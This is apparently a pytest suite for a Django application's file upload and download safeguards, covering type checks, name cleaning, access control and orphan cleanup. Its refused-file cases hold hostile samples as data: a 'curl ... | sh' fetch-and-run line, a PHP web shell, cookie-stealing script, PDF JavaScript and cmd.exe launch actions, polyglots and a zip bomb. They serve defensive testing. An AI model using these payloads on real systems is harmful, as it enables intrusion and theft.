"""Safe uploads and downloads: real files written under a temporary MEDIA_ROOT."""

import hashlib
import io
import os
import re
import struct
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from onewindow.core import files
from onewindow.core.errors import InvalidInput, PermissionDenied
from onewindow.core.models import AuditEntry, StoredFile

STORAGE_PATH = re.compile(r"^\d{4}/\d{2}/[0-9a-f]{32}$")


# --- sample files built byte by byte ------------------------------------------------------


def pdf_bytes(catalog_extra: bytes = b"", trailer: bytes = b"") -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue() + trailer


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes(text: bytes | None = None, trailing: bytes = b"") -> bytes:
    """A 1×1 grey PNG, optionally with a tEXt chunk."""
    chunks = [png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))]
    if text is not None:
        chunks.append(png_chunk(b"tEXt", b"Comment\x00" + text))
    chunks += [png_chunk(b"IDAT", zlib.compress(b"\x00\x80")), png_chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks) + trailing


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_bytes(comment: bytes | None = None, trailing: bytes = b"") -> bytes:
    """An 8×8 baseline greyscale JPEG (decodes to flat grey), optionally with a COM segment."""
    one_code = bytes([1] + [0] * 15) + b"\x00"  # one Huffman code of length 1 for symbol 0
    return (
        b"\xff\xd8"
        + jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + (jpeg_segment(0xFE, comment) if comment is not None else b"")
        + jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
        + jpeg_segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
        + jpeg_segment(0xC4, b"\x00" + one_code)
        + jpeg_segment(0xC4, b"\x10" + one_code)
        + jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # DC difference 0, end of block, padded with ones
        + b"\xff\xd9"
        + trailing
    )


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    b' Target="%s"/></Relationships>'
)


def content_types(main_part: bytes, main_type: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/%s" ContentType="%s"/></Types>' % (main_part, main_type)
    )


def docx_bytes(main_type: bytes = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
               extra: dict[str, bytes] | None = None) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": content_types(b"word/document.xml", main_type),
            "_rels/.rels": RELS % b"word/document.xml",
            "word/document.xml": (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                b"<w:body><w:p><w:r><w:t>\xe7\x94\xb3\xe8\xaf\xb7\xe4\xb9\xa6</w:t></w:r></w:p></w:body></w:document>"
            ),
            **(extra or {}),
        }
    )


def xlsx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": content_types(
                b"xl/workbook.xml", b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            ),
            "_rels/.rels": RELS % b"xl/workbook.xml",
            "xl/workbook.xml": (
                b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'
            ),
        }
    )


def ofd_bytes() -> bytes:
    return zip_bytes(
        {
            "OFD.xml": (
                b'<?xml version="1.0" encoding="UTF-8"?>'
                b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD">'
                b"<ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
            ),
            "Doc_0/Document.xml": b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"/>',
        }
    )


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    # The browser's content type is the attacker's to choose, so it always claims PDF here.
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def files_on_disk(root) -> list:
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


# --- fixtures -----------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    return settings.MEDIA_ROOT


@pytest.fixture
def owner(django_user_model):
    return django_user_model.objects.create_user(username="owner", password="x-unused-1")


@pytest.fixture
def outsider(django_user_model):
    return django_user_model.objects.create_user(username="outsider", password="x-unused-2")


# --- accepted files -----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "kind", "content_type"),
    [
        ("营业执照.pdf", pdf_bytes(), "pdf", "application/pdf"),
        ("身份证正面.PNG", png_bytes(), "png", "image/png"),
        ("现场照片.jpg", jpeg_bytes(), "jpg", "image/jpeg"),
        ("现场照片.jpeg", jpeg_bytes(b"scanned at window 3"), "jpg", "image/jpeg"),
        ("申请书.docx", docx_bytes(), "docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("清单.xlsx", xlsx_bytes(), "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("电子证照.ofd", ofd_bytes(), "ofd", "application/ofd"),
    ],
)
def test_valid_file_is_kept_under_a_server_made_name(media, owner, name, content, kind, content_type):
    stored = files.store_upload(actor=owner, uploaded_file=upload(name, content), purpose="case.material")

    assert stored.kind == kind
    assert stored.content_type == content_type
    assert stored.owner == owner
    assert stored.purpose == "case.material"
    assert stored.original_name == name
    assert stored.size == len(content)
    assert stored.sha256 == hashlib.sha256(content).hexdigest()
    assert STORAGE_PATH.match(stored.storage_path)
    on_disk = media / stored.storage_path
    assert on_disk.read_bytes() == content
    assert on_disk.stat().st_mode & 0o777 == 0o640
    assert files_on_disk(media) == [on_disk]
    entry = AuditEntry.objects.get(action="file.upload")
    assert entry.object_id == str(stored.pk)
    assert stored.sha256 in entry.changes


@pytest.mark.django_db
def test_a_phone_photo_with_a_clip_after_the_image_is_accepted(media, owner):
    content = jpeg_bytes(trailing=b"\x00\x00\x00\x18ftypmp42" + bytes(64))
    stored = files.store_upload(actor=owner, uploaded_file=upload("photo.jpg", content), purpose="case.material")
    assert stored.size == len(content)


@pytest.mark.django_db
def test_the_users_file_name_never_reaches_the_path(media, owner, tmp_path):
    stored = files.store_upload(
        actor=owner, uploaded_file=upload("../../etc/报告<1>\x00.pdf", pdf_bytes()), purpose="case.material"
    )

    assert stored.original_name == "报告_1_.pdf"
    assert STORAGE_PATH.match(stored.storage_path)
    assert "报告" not in stored.storage_path
    assert not (tmp_path / "etc").exists()
    assert [path.relative_to(media).as_posix() for path in files_on_disk(media)] == [stored.storage_path]


def test_file_names_are_cleaned():
    assert files.clean_filename("C:\\Users\\张三\\Desktop\\申请表.pdf") == "申请表.pdf"
    # U+202E (right-to-left override) makes "invoice<U+202E>fdp.exe" display as "invoiceexe.pdf".
    assert files.clean_filename("invoice\u202efdp.exe") == "invoicefdp.exe"
    assert files.clean_filename("  ..hidden.pdf. ") == "hidden.pdf"
    long_name = "很" * 300 + ".pdf"
    assert files.clean_filename(long_name).endswith(".pdf")
    assert len(files.clean_filename(long_name)) == 200


# --- refused files ------------------------------------------------------------------------


def assert_nothing_kept(media):
    assert StoredFile.objects.count() == 0
    assert AuditEntry.objects.filter(action="file.upload").count() == 0
    assert files_on_disk(media) == []


@pytest.mark.django_db
def test_oversize_file_is_refused_before_anything_is_written(media, owner, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    content = pdf_bytes(trailer=b" " * 2048)

    with pytest.raises(InvalidInput, match="大小上限"):
        files.store_upload(actor=owner, uploaded_file=upload("big.pdf", content), purpose="case.material")

    assert_nothing_kept(media)
    assert not media.exists()


@pytest.mark.django_db
def test_a_purpose_can_have_its_own_size_limit(media, owner, settings):
    settings.UPLOAD_MAX_BYTES_BY_PURPOSE = {"account.avatar": 200}
    content = pdf_bytes()
    assert len(content) > 200

    with pytest.raises(InvalidInput, match="大小上限"):
        files.store_upload(actor=owner, uploaded_file=upload("a.pdf", content), purpose="account.avatar")
    assert_nothing_kept(media)

    files.store_upload(actor=owner, uploaded_file=upload("a.pdf", content), purpose="case.material")
    assert StoredFile.objects.count() == 1


def encrypted_zip() -> bytes:
    content = bytearray(docx_bytes())
    # Set the "encrypted" flag on every local and central header.
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := content.find(signature, start)) >= 0:
            content[start + flag_offset] |= 0x01
            start += 4
    return bytes(content)


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"

DISGUISED = [
    pytest.param("申请表.pdf", EXE, "不符", id="exe-as-pdf"),
    pytest.param("申请表.pdf", HTML, "不符", id="html-as-pdf"),
    pytest.param("申请表.pdf", docx_bytes(), "不符", id="zip-as-pdf"),
    pytest.param("photo.jpg", b"#!/bin/sh\ncurl http://x.example/a | sh\n", "不符", id="script-as-jpg"),
    pytest.param("photo.jpg", b"<?php system($_GET['c']); ?>", "不符", id="php-as-jpg"),
    pytest.param("photo.jpg", png_bytes(), "不符", id="png-as-jpg"),
    pytest.param("photo.png", png_bytes(text=b"<script>alert(document.cookie)</script>"), "脚本", id="png-html-polyglot"),
    pytest.param("photo.jpg", jpeg_bytes(comment=b"<html><body onload=alert(1)>"), "脚本", id="jpg-html-polyglot"),
    pytest.param("photo.jpg", jpeg_bytes(trailing=zip_bytes({"a.js": b"x"})), "压缩包", id="jpg-zip-polyglot"),
    pytest.param("photo.png", png_bytes(trailing=b"<!-- hidden -->"), "末尾", id="png-trailing-data"),
    pytest.param("photo.png", png_bytes()[:-3] + b"\x00\x00\x00", "损坏", id="png-bad-crc"),
    pytest.param("report.pdf", pdf_bytes(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "脚本", id="pdf-js"),
    pytest.param("report.pdf", pdf_bytes(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), "脚本", id="pdf-js-escaped"),
    pytest.param("report.pdf", pdf_bytes(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "脚本", id="pdf-launch"),
    pytest.param("report.pdf", pdf_bytes()[:-7], "损坏", id="pdf-truncated"),
    pytest.param(
        "材料.docx",
        docx_bytes(b"application/vnd.ms-word.document.macroEnabled.main+xml", {"word/vbaProject.bin": b"\xd0\xcf"}),
        "宏",
        id="docm-as-docx",
    ),
    pytest.param("材料.docx", zip_bytes({"readme.txt": b"hello"}), "不符", id="plain-zip-as-docx"),
    pytest.param("表格.xlsx", docx_bytes(), "不符", id="docx-as-xlsx"),
    pytest.param("证照.ofd", zip_bytes({"Doc_0/Document.xml": b"<x/>"}), "不符", id="zip-as-ofd"),
    pytest.param("材料.docx", docx_bytes(extra={"word/media/fill.bin": bytes(8 * 1024 * 1024)}), "压缩炸弹", id="zip-bomb"),
    pytest.param("材料.docx", encrypted_zip(), "加密", id="encrypted-zip"),
    pytest.param("invoice\u202efdp.exe", b"MZ" + bytes(100), "不支持", id="rtl-override-exe"),
    pytest.param("page.html", b"<html></html>", "不支持", id="html-extension"),
    pytest.param("申请表", pdf_bytes(), "扩展名", id="no-extension"),
    pytest.param("empty.pdf", b"", "空", id="empty"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content", "message"), DISGUISED)
def test_disguised_or_dangerous_file_is_refused(media, owner, name, content, message):
    with pytest.raises(InvalidInput, match=message) as refused:
        files.store_upload(actor=owner, uploaded_file=upload(name, content), purpose="case.material")

    assert refused.value.field == "file"
    assert_nothing_kept(media)


@pytest.mark.django_db
def test_allowed_kinds_narrow_what_a_purpose_accepts(media, owner):
    with pytest.raises(InvalidInput, match="不支持"):
        files.store_upload(
            actor=owner,
            uploaded_file=upload("a.pdf", pdf_bytes()),
            purpose="account.avatar",
            allowed_kinds=("jpg", "png"),
        )
    assert_nothing_kept(media)


@pytest.mark.django_db
def test_bad_purpose_and_anonymous_uploader_are_refused(media, owner):
    from django.contrib.auth.models import AnonymousUser

    with pytest.raises(InvalidInput, match="用途"):
        files.store_upload(actor=owner, uploaded_file=upload("a.pdf", pdf_bytes()), purpose="../x")
    with pytest.raises(PermissionDenied):
        files.store_upload(actor=AnonymousUser(), uploaded_file=upload("a.pdf", pdf_bytes()), purpose="case.material")
    assert_nothing_kept(media)


# --- downloads ----------------------------------------------------------------------------


@pytest.fixture
def stored_pdf(media, owner):
    return files.store_upload(actor=owner, uploaded_file=upload("营业执照 副本.pdf", pdf_bytes()), purpose="case.material")


def download_url(stored) -> str:
    return reverse("core:file_download", args=[stored.token])


@pytest.mark.django_db
def test_owner_downloads_with_safe_headers(client, owner, stored_pdf):
    client.force_login(owner)

    response = client.get(download_url(stored_pdf))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf_bytes()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"file.pdf\"; "
        "filename*=UTF-8''%E8%90%A5%E4%B8%9A%E6%89%A7%E7%85%A7%20%E5%89%AF%E6%9C%AC.pdf"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert "sandbox" in response["Content-Security-Policy"]


def test_content_disposition_keeps_an_ascii_fallback():
    assert files.content_disposition("scan 2024.pdf") == (
        "attachment; filename=\"scan_2024.pdf\"; filename*=UTF-8''scan%202024.pdf"
    )
    assert files.content_disposition('a";b.pdf') == "attachment; filename=\"a_b.pdf\"; filename*=UTF-8''a%22%3Bb.pdf"


@pytest.mark.django_db
def test_outsider_gets_404_and_anonymous_is_sent_to_login(client, outsider, stored_pdf):
    response = client.get(download_url(stored_pdf))
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]

    client.force_login(outsider)
    assert client.get(download_url(stored_pdf)).status_code == 404
    assert client.get(reverse("core:file_download", args=["not-a-real-token"])).status_code == 404


@pytest.mark.django_db
def test_superuser_and_registered_rules_may_read(client, django_user_model, outsider, stored_pdf):
    admin_user = django_user_model.objects.create_superuser(username="root", password="x-unused-3")
    client.force_login(admin_user)
    assert client.get(download_url(stored_pdf)).status_code == 200

    def case_handlers(user, stored_file):
        return stored_file.purpose == "case.material" and user.username == "outsider"

    files.register_read_rule(case_handlers)
    try:
        assert files.can_read(outsider, stored_pdf)
        client.force_login(outsider)
        assert client.get(download_url(stored_pdf)).status_code == 200
    finally:
        files.read_rules.remove(case_handlers)
    assert not files.can_read(outsider, stored_pdf)


@pytest.mark.django_db
def test_inactive_owner_may_not_read(owner, stored_pdf):
    owner.is_active = False
    assert not files.can_read(owner, stored_pdf)


@pytest.mark.django_db
def test_storage_path_is_not_served(client, owner, stored_pdf):
    client.force_login(owner)
    for prefix in ("/", "/files/", "/media/"):
        assert client.get(prefix + stored_pdf.storage_path).status_code == 404


@pytest.mark.django_db
def test_file_missing_on_disk_is_a_404_not_a_500(client, media, owner, stored_pdf):
    (media / stored_pdf.storage_path).unlink()
    client.force_login(owner)
    assert client.get(download_url(stored_pdf)).status_code == 404


@pytest.mark.django_db
def test_admin_shows_metadata_but_no_token_or_content(admin_client, stored_pdf):

    listing = admin_client.get(reverse("admin:core_storedfile_changelist"))
    detail = admin_client.get(reverse("admin:core_storedfile_change", args=[stored_pdf.pk]))

    assert listing.status_code == detail.status_code == 200
    for page in (listing, detail):
        assert stored_pdf.token not in page.content.decode()
        assert download_url(stored_pdf) not in page.content.decode()
    assert stored_pdf.sha256 in detail.content.decode()
    assert admin_client.get(reverse("admin:core_storedfile_add")).status_code == 403


# --- leftovers ----------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("batch", [1, 500])  # one query per batch of files, whatever the batch size
def test_orphaned_bytes_are_removed_once_old_and_kept_files_stay(media, stored_pdf, monkeypatch, batch):
    monkeypatch.setattr(files, "_ORPHAN_BATCH", batch)
    kept = media / stored_pdf.storage_path
    orphan = kept.parent / ("0" * 32)
    orphan.write_bytes(pdf_bytes())
    staged = media / "incoming" / ("1" * 32)
    staged.write_bytes(b"partial upload")
    old = time.time() - files.ORPHAN_AGE_SECONDS - 60
    for path in (kept, orphan, staged):
        os.utime(path, (old, old))

    assert files.remove_orphans() == 2
    assert kept.exists() and not orphan.exists() and not staged.exists()


@pytest.mark.django_db
def test_recent_unreferenced_bytes_are_left_alone(media, stored_pdf):
    fresh = (media / stored_pdf.storage_path).parent / ("2" * 32)
    fresh.write_bytes(pdf_bytes())
    assert files.remove_orphans() == 0
    assert fresh.exists()
